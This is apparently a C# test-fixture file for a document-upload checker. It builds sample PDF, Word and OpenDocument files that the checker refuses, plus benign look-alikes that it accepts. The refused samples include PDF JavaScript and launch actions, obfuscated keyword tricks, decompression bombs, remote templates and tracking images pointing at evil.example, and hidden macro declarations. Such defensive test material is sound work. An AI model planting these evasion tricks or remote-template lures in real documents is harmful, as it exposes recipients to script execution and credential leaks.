using System.IO.Compression;
using System.Text;
using Acquisitieloket.Core.Documents;

namespace Acquisitieloket.Testing;

/// <summary>Files that would act on the computer of whoever opens them, and ordinary ones that only look like it.</summary>
public static class ActingFiles
{
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string Script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";

    /// <summary>What it is, the file with its name, and why it is refused.</summary>
    public static IReadOnlyList<(string What, string Name, byte[] Content, FileFault Fault)> Refused { get; } =
    [
        ("script when opened", "plan.pdf", Pdf($"<</Type/Catalog/OpenAction{Script}>>"), FileFault.Active),
        ("script with an escaped name", "plan.pdf", Pdf("<</S/J#61vaScript/J#53 5 0 R>>"), FileFault.Active),
        ("script behind a comment", "plan.pdf", Pdf("<</S%x\n/JavaScript\n>>"), FileFault.Active),
        ("script in the names", "plan.pdf", Pdf("<</Names<</JavaScript 5 0 R>>>>"), FileFault.Active),
        ("script in what looks like a text", "plan.pdf", Pdf($"(5 0 obj {Script} endobj)"), FileFault.Active),
        ("script in packed objects", "plan.pdf", PackedPdf(Script), FileFault.Active),
        ("script in packed objects behind an open text", "plan.pdf", PackedPdf(Script, "(open "), FileFault.Active),
        ("packed in a way nobody packs", "plan.pdf", PackedPdf("1", filter: "[/ASCIIHexDecode/FlateDecode]"), FileFault.Active),
        ("packed objects that begin nowhere", "plan.pdf", PackedPdf("1", first: "7 0 R"), FileFault.Active),
        ("program that is started", "plan.pdf", Pdf("<</S/Launch/F(calc.exe)>>"), FileFault.Active),
        ("file in the file", "plan.pdf", Pdf("<</Names<</EmbeddedFiles 5 0 R>>>>"), FileFault.Active),
        ("form with scripts of its own", "plan.pdf", Pdf("<</AcroForm<</XFA[(a)5 0 R]>>>>"), FileFault.Active),
        ("packed objects that are damaged", "plan.pdf", BrokenPdf(""), FileFault.Broken),
        ("packed objects that are locked", "plan.pdf", BrokenPdf("/Encrypt 9 0 R"), FileFault.Locked),
        ("packed objects without end", "plan.pdf", PackedPdf(new string(' ', 1024 * 1024), times: 120), FileFault.Bomb),
        ("objects in objects without end", "plan.pdf", Pdf(string.Concat(Enumerable.Repeat("obj(", 2_000_000))), FileFault.Bomb),
        ("remote template", "plan.docx", Docx("attachedTemplate", "https://evil.example/x.dotm"), FileFault.Remote),
        ("template on a share", "plan.docx", Docx("attachedTemplate", "file:///\\\\evil.example\\x\\y.dotm"), FileFault.Remote),
        ("template on a share, escaped", "plan.docx", Docx("attachedTemplate", "file:///%5c%5cevil.example%5cx.dotm"), FileFault.Remote),
        ("remote picture", "plan.docx", Docx("image", "http://evil.example/pixel.png"), FileFault.Remote),
        ("remote object", "plan.docx", Docx("oleObject", "mhtml:http://evil.example/x!x-usc:y"), FileFault.Embedded),
        ("object of another program", "plan.docx", Docx("oleObject", "embeddings/oleObject1.bin"), FileFault.Embedded),
        ("control", "plan.docx", Docx("control", "activeX/activeX1.xml"), FileFault.Embedded),
        ("object under another name", "plan.docx", Docx("image", "media/a.png", ("word/media/a.png", SampleFiles.OldOffice())), FileFault.Embedded),
        ("program under another name", "plan.docx", Docx("image", "media/a.png", ("word/media/a.png", SampleFiles.Program())), FileFault.Embedded),
        ("macros by relation only", "plan.docx", Docx("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin"), FileFault.Macros),
        ("macros with an escaped type", "plan.docx", Typed("application/vnd.ms-word.document.m&#97;croEnabled.main+xml"), FileFault.Macros),
        ("macros behind two megabytes", "plan.docx", Typed($"x\"/>{new string(' ', 2 << 20)}<Override ContentType=\"application/vnd.ms-office.vbaProject"), FileFault.Macros),
        ("macros in the document in the document", "plan.docx", Docx("package", "embeddings/a.xlsx", ("word/embeddings/a.xlsx", SampleFiles.DocxWithHiddenMacros())), FileFault.Macros),
        ("document in a document in a document", "plan.docx", Docx("package", "e/a.docx", ("word/e/a.docx", Docx("package", "e/b.docx", ("word/e/b.docx", SampleFiles.Docx())))), FileFault.Embedded),
        ("XML that unfolds", "plan.docx", SampleFiles.Zip(("[Content_Types].xml", "<!DOCTYPE x [<!ENTITY a \"aa\">]><Types>&a;</Types>")), FileFault.Broken),
        ("script in an OpenDocument", "plan.odt", Odt("<office:scripts><office:script/></office:scripts>"), FileFault.Macros),
        ("event in an OpenDocument", "plan.odt", Odt("<script:event-listener/>"), FileFault.Macros),
        ("remote picture in an OpenDocument", "plan.odt", Odt("<draw:image xlink:href='http://evil.example/x.png'/>"), FileFault.Remote),
        ("object in an OpenDocument", "plan.odt", Odt("<draw:object-ole xlink:href='./Object 1'/>"), FileFault.Embedded),
    ];

    /// <summary>Ordinary files with their names.</summary>
    public static IReadOnlyList<(string What, string Name, byte[] Content)> Taken { get; } =
    [
        ("text about scripts", "plan.pdf", Pdf("<</Title(React/JS \\(front-end\\) /JavaScript)/URI(https://x.example/Web/JavaScript)>>")),
        ("packed objects", "plan.pdf", PackedPdf("<</Type/Page/A<</S/URI/URI(https://x.example/JavaScript)>>>>")),
        ("word for object in a picture", "plan.pdf", Pdf("<</Length 9>>stream\nobj ( obj\nendstream")),
        ("hyperlink", "plan.docx", Docx("hyperlink", "https://www.voorbeeld.nl/JavaScript?a=b:c")),
        ("mail address", "plan.docx", Docx("hyperlink", "mailto:erika@muster.example")),
        ("template of its maker", "plan.docx", Docx("attachedTemplate", "file:///C:\\Users\\erika\\Normal.dotm")),
        ("picture of its own", "plan.docx", Docx("image", "media/a.png", ("word/media/a.png", SampleFiles.Png()))),
        ("figures behind a chart", "plan.docx", Docx("package", "embeddings/a.xlsx", ("word/embeddings/a.xlsx", SampleFiles.Xlsx()))),
        ("link in an OpenDocument", "plan.odt", Odt("<office:scripts/><text:a xlink:href='https://www.voorbeeld.nl/'/><draw:image xlink:href='Pictures/a.png'/>")),
    ];

    private static byte[] Pdf(string thing) => Latin($"%PDF-1.4\n1 0 obj{thing}endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n");

    private static byte[] PackedPdf(string thing, string before = "", string filter = "/FlateDecode", string? first = null, int times = 1)
    {
        var header = $"5 {before.Length} ";
        using var packed = new MemoryStream();
        using (var zip = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            var content = Latin(before + thing);
            zip.Write(Latin(header));
            for (var i = 0; i < times; i++)
                zip.Write(content);
        }
        return [.. Latin($"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First {first ?? $"{header.Length}"}/Filter{filter}>>stream\n"),
            .. packed.ToArray(), .. Latin("\nendstream endobj\nstartxref\n0\n%%EOF\n")];
    }

    private static byte[] BrokenPdf(string more) =>
        Latin($"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\nnot packed at all\nendstream endobj\ntrailer<<{more}>>startxref\n0\n%%EOF\n");

    private static byte[] Docx(string relation, string target, params (string Name, byte[] Content)[] parts)
    {
        var type = relation.Contains(':') ? relation : Office + relation;
        using var bytes = new MemoryStream();
        bytes.Write(SampleFiles.Docx());
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
            foreach (var (name, content) in parts.Append(("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes(
                $"<Relationships><Relationship Id=\"r1\" Type=\"{type}\" Target=\"{target.Replace("&", "&amp;")}\" TargetMode=\"External\"/></Relationships>"))))
            {
                using var part = zip.CreateEntry(name).Open();
                part.Write(content);
            }
        return bytes.ToArray();
    }

    private static byte[] Typed(string type) => SampleFiles.Zip(
        ("[Content_Types].xml", $"<Types><Override ContentType=\"{SampleFiles.Word}\"/><Override ContentType=\"{type}\"/></Types>"),
        ("word/document.xml", "<w/>"));

    private static byte[] Odt(string body)
    {
        const string oasis = "urn:oasis:names:tc:opendocument:xmlns";
        return SampleFiles.Zip(("mimetype", "application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", "<manifest/>"),
            ("content.xml", $"<office:document-content xmlns:office='{oasis}:office:1.0' xmlns:script='{oasis}:script:1.0' "
                + $"xmlns:draw='{oasis}:drawing:1.0' xmlns:text='{oasis}:text:1.0' xmlns:xlink='http://www.w3.org/1999/xlink'>{body}</office:document-content>"));
    }

    private static byte[] Latin(string text) => Encoding.Latin1.GetBytes(text);
}
